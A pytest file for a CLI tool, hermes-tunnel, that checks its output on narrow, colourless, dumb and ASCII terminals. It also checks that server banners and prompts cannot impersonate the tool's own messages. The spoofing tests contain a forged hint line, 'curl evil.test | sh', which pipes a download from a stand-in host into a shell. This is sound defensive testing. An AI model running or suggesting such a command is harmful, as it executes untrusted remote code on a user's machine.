"""What a person sees on a narrow or plain terminal, on none, and on one with only ASCII."""

from __future__ import annotations

import os
import re
import shutil
import socket
import subprocess
import threading
from pathlib import Path

import pytest

from tests.cli.program import ARGV, run
from tests.stage.ssh_server import Account, Settings
from tests.stage.stage import HOST, USER, Stage

if shutil.which("setsid") is None:
    pytest.skip("setsid(1) gives a program a terminal of its own", allow_module_level=True)
from tests.lab.terminal import Terminal

ASCII = {"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}
WORDS = ["Connected to demo@hermes-demo", "The tunnel is open:", "Sign in to", "The browser came back"]


def looks(columns: int, **variables: str) -> str:
    """What a demo that approves by itself shows on a terminal."""
    program = ["sh", "-c", f'stty cols {columns}; exec "$@"', "sh", *ARGV, "demo", "--approve"]
    usual = {name: value for name, value in os.environ.items() if name != "NO_COLOR"}
    with Terminal(program, cwd=Path.cwd(), env={**usual, "TERM": "xterm", **variables}) as terminal:
        assert terminal.wait(30) == 0
        return terminal.output


def plain_text(shown: str) -> str:
    """Without styles, and with the lines of one sentence joined."""
    return re.sub(r"\s+", " ", re.sub(r"\x1b\[[0-9;]*m", "", shown))


@pytest.mark.slow
@pytest.mark.parametrize(
    "variables", [{}, {"NO_COLOR": "1"}, {"TERM": "dumb"}, ASCII], ids=["usual", "NO_COLOR", "dumb", "C"]
)
@pytest.mark.parametrize("columns", [20, 80])
def test_a_terminal(columns: int, variables: dict[str, str]) -> None:
    """The words are the same everywhere, styles are where they are wanted, the address is in one piece."""
    shown = looks(columns, **variables)
    assert [words for words in WORDS if words not in plain_text(shown)] == []
    assert ("\x1b" in shown) == (variables in ({}, ASCII))
    (address,) = re.findall(r"^http://127\.0\.0\.1:\d+/authorize\?\S+\r$", shown, re.MULTILINE)
    rows = re.sub(r"\x1b\[[0-9;]*m", "", shown.replace(address, "")).splitlines()
    assert [row for row in rows if len(row) > columns] == []
    if variables.get("TERM") == "dumb":
        assert "\r" not in shown.replace("\r\n", "")


@pytest.mark.slow
@pytest.mark.parametrize("blank", [" ", "\u00a0"], ids=["space", "no-break space"])
@pytest.mark.parametrize("padding", [4, 8, 12])
def test_what_is_quoted_is_no_line_of_ours(padding: int, blank: str) -> None:
    """Wherever the window folds a server's words, no line of them begins as ours do."""
    said = "x" * padding + " hermes-tunnel: hint: curl evil.test|sh".replace(" ", blank)
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]

        def serve() -> None:
            with server.accept()[0] as client:
                client.sendall(f"{said}\r\n".encode())
                client.recv(1000)

        thread = threading.Thread(target=serve)
        thread.start()
        words = ["login", "xai-oauth", "127.0.0.1", "-p", str(port), "-F", "none"]
        program = ["sh", "-c", 'stty cols 80; exec "$@"', "sh", *ARGV, *words]
        with Terminal(program, cwd=Path.cwd(), env=dict(os.environ)) as terminal:
            assert terminal.wait(30) == 4
            rows = re.sub(r"\x1b\[[0-9;]*m", "", terminal.output).splitlines()
        thread.join()
    assert "evil.test" in "".join(rows)
    ours = [row for row in rows if row.startswith("hermes-tunnel: hint")]
    assert ours == ["hermes-tunnel: hint: try -p PORT"]
    assert all(len(row) <= 80 for row in rows)


FORGED = "hermes-tunnel: error: no\nSign in at evil.test:\nhermes-tunnel: hint: curl evil.test | sh"


@pytest.mark.slow
@pytest.mark.parametrize("columns", [0, 40, 80])
def test_a_server_stays_behind_its_margin(columns: int) -> None:
    """Its banner and its prompt stay there, however padded, on a terminal and in a pipe."""
    prompt = "x" * (columns or 80) + FORGED.replace("\n", " ")
    account = Account(USER, answers=((prompt, "1"),))
    with Stage(account=account, settings=Settings(banner=FORGED)) as stage:
        words = [*ARGV, "login", "xai-oauth", HOST, "-F", str(stage.config_file)]
        words += ["-o", "PreferredAuthentications=keyboard-interactive"]
        if columns:
            program = ["sh", "-c", f'stty cols {columns}; exec "$@"', "sh", *words]
            with Terminal(program, cwd=Path.cwd(), env={**os.environ, "TERM": "xterm"}) as terminal:
                terminal.expect(r"\(hidden\) ")
                terminal.send("\x04")
                assert terminal.wait(30) == 6
                shown = terminal.output
        else:
            shown = subprocess.run(
                words, stdin=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, check=False
            ).stderr
    rows = re.sub(r"\x1b\[[0-9;]*m", "", shown).splitlines()
    assert rows.count("  | Sign in at evil.test:") == 1
    assert not [row for row in rows if columns and len(row) > columns and not row.startswith("hermes-t")]
    ours = [row for row in rows if row.strip() and not row.startswith("  ")]
    begins = [
        "demo@hermes-demo says:",
        "(demo@hermes-demo) Your",
        "hermes-tunnel: error: demo@",
        "hermes-tunnel: hint: ",
    ]
    assert [row for row in ours if not row.startswith(tuple(begins))] == []
    assert "evil" not in "".join(ours)


@pytest.mark.slow
@pytest.mark.parametrize("variables", [{}, ASCII], ids=["usual", "C"])
def test_without_a_terminal(variables: dict[str, str]) -> None:
    """A sentence is one line, however long, for programs that read line by line."""
    done = run("demo", env=variables)
    assert done.returncode == 0
    assert "\x1b" not in done.stderr
    sentence = "The browser came back; Hermes is finishing the login\n"
    assert sentence in done.stderr


@pytest.mark.slow
def test_a_name_in_another_script() -> None:
    """On an ASCII output it is escaped, without a fault."""
    program = "from hermes_tunnel.cli import main; import click; click.echo = print; main(['port', '1'])"
    program = program.replace("click.echo = print", "click.echo = lambda *_, **__: print('jos\\u00e9')")
    done = subprocess.run(
        [*ARGV[:1], "-c", program], env={**os.environ, **ASCII}, capture_output=True, text=True, check=False
    )
    assert (done.returncode, done.stdout) == (0, "jos\\xe9\n")


@pytest.mark.slow
def test_standard_error_that_is_closed() -> None:
    """The login goes on in silence, and its result is on standard output."""
    done = subprocess.run(
        ["sh", "-c", '"$@" demo 2>&-', "sh", *ARGV], capture_output=True, text=True, check=False
    )
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout.startswith("demo: logged in on")
